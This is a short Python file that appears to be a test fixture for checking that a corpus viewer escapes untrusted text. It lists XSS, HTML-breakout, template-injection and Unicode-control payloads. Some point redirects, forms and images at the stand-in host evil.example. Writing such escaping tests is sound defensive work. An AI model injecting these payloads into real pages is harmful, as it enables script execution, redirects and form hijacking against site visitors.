"""Texts that try to be more than text, wherever a corpus is shown."""

PAYLOADS = [
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "\"><svg onload=document.title='pwned'>",
    "' autofocus onfocus='document.title=1' x='",
    "</style><style>body{display:none}</style>",
    "</title><base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "<a href=\"javascript:document.title='pwned'\">click</a>",
    "</p></li></ol></main><form action=http://evil.example/><input name=q>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "&lt;script&gt; &#x3C;script&#x3E; &amp;",
    "<!-- -->]]><![CDATA[<script>x</script>]]>",
    "<details open ontoggle=\"document.title='pwned'\">",
    "\u202eevil\u202c \u2066isolate\u2069 \u200bzero\u200d \ufeffbom \u00adsoft",
    "null\x00bell\x07escape\x1b[31mred\x7f\x85\u2028line\u2029",
    "tag \U000e0041 and filler \u3164",
    "![x](http://evil.example/a.png) <http://evil.example>",
    "-->'\"`;alert(1)//\\u003cscript\\u003e",
]
ALLOWED = set("""html head meta title style body nav a main footer h1 h2 h3 p span div dl dt dd table caption thead
tbody tr th td figure figcaption svg line rect text details summary ol ul li i""".split())
"""Every element that the pages' own templates use."""
